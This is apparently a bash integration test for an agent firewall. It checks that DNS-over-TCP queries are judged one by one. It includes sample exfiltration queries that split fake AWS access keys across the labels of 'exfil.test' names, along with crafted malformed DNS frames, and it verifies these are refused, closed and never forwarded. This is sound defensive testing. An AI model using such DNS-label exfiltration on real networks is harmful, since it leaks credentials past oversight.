#!/usr/bin/env bash
# t_dns_tcp.sh - agent DNS over TCP (port 53) judged query by query by the
# engine (TPROXY path, tproxy_dns), with a real resolver (dnsmasq,
# --log-queries, TCP and UDP) in the "internet" namespace: `dig +tcp`
# resolves an allowed name (IPv4 and IPv6 resolver); a name carrying an
# AKIA key split over labels and a blocklisted name get REFUSED at once and
# dnsmasq never logs them; on one connection an allowed query is answered
# and the next, secret-carrying one is REFUSED (sent one after the other
# and pipelined in one write); 20 pipelined allowed queries are all
# answered in order; malformed frames (an answer record, an impossible
# length prefix, garbage, a partial frame then FIN) close the connection
# unanswered and unforwarded, and the engine stays alive; TCP DNS to an
# address that is not a configured resolver is refused; blocks are audited
# without the secret.  Then with `dns: allow` only the shape is checked.
set -eu
. tests/integration/lib.sh
. tests/integration/helpers/nfq.sh

topo_up
plfw_ready || skip "pipelock-fw firewall/run not built"
need_cmd dnsmasq nft dig

DNS_LOG=$TEST_TMP/dnsmasq.log
# V4_UP2 is a resolver too, but not a configured one: only the firewall
# keeps the agent from it
nfq_dnsmasq "$NET_NS" "$V4_UP" "$DNS_LOG" --listen-address="$V6_UP" \
	--listen-address="$V4_UP2" \
	--address=/tcpok.test/"$V4_UP" --address=/exfil.test/"$V4_UP" \
	--address=/blocked.test/"$V4_UP"
printf '127.0.0.1 localhost\n::1 localhost\n' >"/etc/netns/$HOST_NS/hosts"

start_engine() {
	make_config "dns_servers: [\"$V4_UP\", \"$V6_UP\"]" "ipv6: true" "$@"
	engine_start --config "$PLFW_CONFIG" --apply -v
}
start_engine

# tcpq MODE SERVER HEX... -- as the agent, one TCP connection to SERVER:53
# carrying the DNS messages HEX (framed here).  MODE seq: each sent after
# the previous answer; pipe: all in one write; seq+end / pipe+end: then
# wait (2 s) for what follows the last answer.  Prints one token per
# answer ("id=ID rcode=N an=M" squeezed to "ID/N/M", or closed, reset,
# timeout), "end=..." for +end, then the elapsed ms.
cat >"$TEST_TMP/tcpq.py" <<'EOF'
import socket, struct, sys, time
mode, srv = sys.argv[1], sys.argv[2]
frames = [struct.pack(">H", len(m)) + m for m in
          (bytes.fromhex(h) for h in sys.argv[3:])]
s = socket.socket(socket.AF_INET6 if ":" in srv else socket.AF_INET,
                  socket.SOCK_STREAM)
s.settimeout(3)
t0 = time.monotonic()
def exact(n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            raise EOFError
        b += c
    return b
def answer():
    try:
        m = exact(struct.unpack(">H", exact(2))[0])
        return "%04x/%d/%d" % (struct.unpack(">H", m[:2])[0], m[3] & 15,
                               struct.unpack(">H", m[6:8])[0])
    except socket.timeout:
        return "timeout"
    except EOFError:
        return "closed"
    except ConnectionResetError:
        return "reset"
    except OSError as e:
        return "err%d" % e.errno
out = []
try:
    s.connect((srv, 53))
    if mode.startswith("pipe"):
        s.sendall(b"".join(frames))
        for _ in frames:
            out.append(answer())
            if out[-1] in ("closed", "reset", "timeout"):
                break
    else:
        for f in frames:
            s.sendall(f)
            out.append(answer())
            if out[-1] in ("closed", "reset", "timeout"):
                break
    if mode.endswith("+end"):
        s.settimeout(2)
        out.append("end=" + answer())
except OSError as e:
    out.append("err%d" % (e.errno or 0))
print(" ".join(out), int((time.monotonic() - t0) * 1000))
EOF
chmod 0644 "$TEST_TMP/tcpq.py"
# qhex NAME [ID] [EXTRA] -- a DNS query (A, RD) for NAME with ID (hex, 4
# digits); EXTRA=answer adds ANCOUNT=1 (a shape the parser refuses).
qhex() {
	"$PY" - "$1" "${2:-4242}" "${3:-}" <<'EOF'
import struct, sys
name, qid, extra = sys.argv[1], int(sys.argv[2], 16), sys.argv[3]
q = struct.pack(">HHHHHH", qid, 0x0100, 1, 1 if extra == "answer" else 0, 0, 0)
for l in name.split("."):
    q += bytes([len(l)]) + l.encode()
q += b"\0" + struct.pack(">HH", 1, 1)
print(q.hex())
EOF
}
tcpq() { as_agent "$PY" "$TEST_TMP/tcpq.py" "$@"; }
saw() { grep -q -- "$1" "$DNS_LOG"; }
# digs NAME SERVER -- status of `dig +tcp` as the agent (one try, 2 s)
digs() {
	as_agent dig +tcp +tries=1 +time=2 "@$2" "$1" A >"$TEST_TMP/dig.out" 2>&1 || true
	sed -n 's/.*status: \([A-Z]*\).*/\1/p' "$TEST_TMP/dig.out" | head -1
}

# 1. allowed names over TCP with a real client, both resolvers
st=$(digs allowed.tcpok.test "$V4_UP")
[[ $st == NOERROR ]] || fail "dig +tcp allowed.tcpok.test: '$st': $(cat "$TEST_TMP/dig.out")"
grep -q "^allowed.tcpok.test.*$V4_UP" "$TEST_TMP/dig.out" || fail "no answer record: $(cat "$TEST_TMP/dig.out")"
saw 'query\[A\] allowed.tcpok.test' || fail "dnsmasq did not log allowed.tcpok.test"
st=$(digs v6.tcpok.test "$V6_UP")
[[ $st == NOERROR ]] || fail "dig +tcp via the IPv6 resolver: '$st'"
saw 'v6.tcpok.test' || fail "dnsmasq did not log the IPv6 query"
grep -q '"event":"tcp".*"verdict":"allow".*"proto":"dns"\|"proto":"dns".*"verdict":"allow"' \
	"$TEST_TMP/audit.log" || fail "no tcp allow line with proto dns: $(tail -5 "$TEST_TMP/audit.log")"

# 2. a secret split over labels and a blocklisted name: REFUSED, fast
t0=$(nfq_now_ms)
st=$(digs AKIAZ7Y6X5W4.V3U2T1S0R9Q8.exfil.test "$V4_UP")
ms=$(($(nfq_now_ms) - t0))
[[ $st == REFUSED ]] || fail "dig +tcp secret name: '$st', want REFUSED: $(cat "$TEST_TMP/dig.out")"
((ms < 1000)) || fail "secret name refused only after $ms ms"
st=$(digs blocked.test "$V4_UP")
[[ $st == REFUSED ]] || fail "dig +tcp blocklisted name: '$st', want REFUSED"
read -r a end ms <<<"$(tcpq seq+end "$V4_UP" "$(qhex akia2e3r4t.5y6u7i8o9p.exfil.test 5151)")"
[[ $a == 5151/5/0 ]] || fail "raw secret query: '$a', want REFUSED with id 5151"
[[ $end == end=closed || $end == end=reset ]] || fail "after REFUSED the connection stays: $end"
((ms < 1500)) || fail "REFUSED and close took $ms ms"

# 3. one connection: allowed, then a secret (in turn, then pipelined)
read -r a b end _ <<<"$(tcpq seq+end "$V4_UP" "$(qhex first.tcpok.test 0001)" \
	"$(qhex akiaq2w3e4r5t.6y7u8i9o0p.exfil.test 0002)")"
[[ $a == 0001/0/1 ]] || fail "first query on the connection: '$a', want an answer"
[[ $b == 0002/5/0 ]] || fail "second (secret) query: '$b', want REFUSED"
[[ $end == end=closed || $end == end=reset ]] || fail "connection not closed after the refusal: $end"
read -r a b _ <<<"$(tcpq pipe "$V4_UP" "$(qhex pipe1.tcpok.test 0003)" \
	"$(qhex akiaw2e3r4t5.y6u7i8o9p0q.exfil.test 0004)")"
[[ $a == 0003/0/1 && $b == 0004/5/0 ]] || fail "pipelined allowed+secret: '$a' '$b'"
saw 'first.tcpok.test' || fail "dnsmasq did not log the first query"
saw 'pipe1.tcpok.test' || fail "dnsmasq did not log the pipelined first query"

# 4. 20 allowed queries in one write: all answered, in order
hexes=()
for i in $(seq 10 29); do hexes+=("$(qhex "p$i.tcpok.test" "00$i")"); done
out=$(tcpq pipe "$V4_UP" "${hexes[@]}")
want=$(for i in $(seq 10 29); do printf '00%s/0/1 ' "$i"; done)
[[ "${out% *} " == "$want" ]] || fail "20 pipelined queries: '$out'"

# 5. malformed frames: closed, unanswered, never forwarded; engine alive
for what in answer prefix garbage partial; do
	case $what in
	answer) r=$(tcpq seq "$V4_UP" "$(qhex shape.tcpok.test 0101 answer)") ;;
	prefix) r=$(as_agent "$PY" -c '
import socket, sys
s = socket.create_connection((sys.argv[1], 53), 3)
s.sendall(b"\x00\x03abc")
try:
    print("closed" if s.recv(100) == b"" else "answer", 0)
except ConnectionResetError:
    print("reset", 0)
except socket.timeout:
    print("timeout", 0)' "$V4_UP") ;;
	garbage) r=$(tcpq seq "$V4_UP" "$(head -c 200 /dev/urandom | od -An -tx1 | tr -d ' \n')") ;;
	partial) r=$(as_agent "$PY" -c '
import socket, sys
s = socket.create_connection((sys.argv[1], 53), 3)
s.sendall(bytes.fromhex(sys.argv[2])[:9])
s.shutdown(socket.SHUT_WR)
try:
    print("closed" if s.recv(100) == b"" else "answer", 0)
except ConnectionResetError:
    print("reset", 0)
except socket.timeout:
    print("timeout", 0)' "$V4_UP" "0022$(qhex partial.tcpok.test 0102)") ;;
	esac
	read -r r _ <<<"$r"
	[[ $r == closed || $r == reset ]] || fail "malformed ($what): '$r', want the connection closed"
done
read -r a b _ <<<"$(tcpq seq "$V4_UP" "$(qhex ok.tcpok.test 0201)" "$(qhex bad.tcpok.test 0202 answer)")"
[[ $a == 0201/0/1 ]] || fail "good query before a malformed one: '$a'"
[[ $b == closed || $b == reset ]] || fail "malformed after a good query: '$b'"
! saw 'shape.tcpok.test' || fail "dnsmasq saw the query with an answer record"
! saw 'bad.tcpok.test' || fail "dnsmasq saw the malformed second query"
! saw 'partial.tcpok.test' || fail "dnsmasq saw the partial frame"
pid_alive "$ENGINE_PID" || fail "engine died"
read -r a _ <<<"$(tcpq seq "$V4_UP" "$(qhex after.tcpok.test 0301)")"
[[ $a == 0301/0/1 ]] || fail "a good query after the malformed ones: '$a'"

# 6. TCP DNS to a resolver that is not configured: refused, never seen
read -r a _ <<<"$(tcpq seq "$V4_UP2" "$(qhex other.tcpok.test 0401)")"
[[ $a != 0401/0/* ]] || fail "TCP DNS to a non-configured resolver answered: '$a'"
! saw 'other.tcpok.test' || fail "the non-configured resolver saw the query"

# 7. what the resolver and the audit log saw
! grep -qi 'akia' "$DNS_LOG" || fail "the resolver saw a secret"
! saw "query\\[A\\] blocked.test" || fail "the resolver saw the blocklisted name"
grep '"event":"dns"' "$TEST_TMP/audit.log" | grep -q '"verdict":"block"' ||
	fail "no dns block audit line"
grep '"event":"dns"' "$TEST_TMP/audit.log" | grep -q '"proto":"dns"' ||
	fail "dns audit lines do not say proto dns"
! grep -qi '5y6u7i8o9p\|6y7u8i9o0p' "$TEST_TMP/audit.log" || fail "the audit log holds a secret"

# 8. dns: allow -- only the shape is checked
engine_stop
start_engine "dns: allow"
read -r a _ <<<"$(tcpq seq "$V4_UP" "$(qhex akiae2r3t4y5.u6i7o8p9a0s.exfil.test 0501)")"
[[ $a == 0501/0/1 ]] || fail "dns: allow: secret name not passed: '$a'"
saw 'akiae2r3t4y5' || fail "dns: allow: dnsmasq did not see the name"
read -r a _ <<<"$(tcpq seq "$V4_UP" "$(qhex shape2.tcpok.test 0502 answer)")"
[[ $a == closed || $a == reset ]] || fail "dns: allow: malformed query: '$a'"
! saw 'shape2.tcpok.test' || fail "dns: allow: dnsmasq saw the malformed query"
pid_alive "$ENGINE_PID" || fail "engine died"
log "ok"
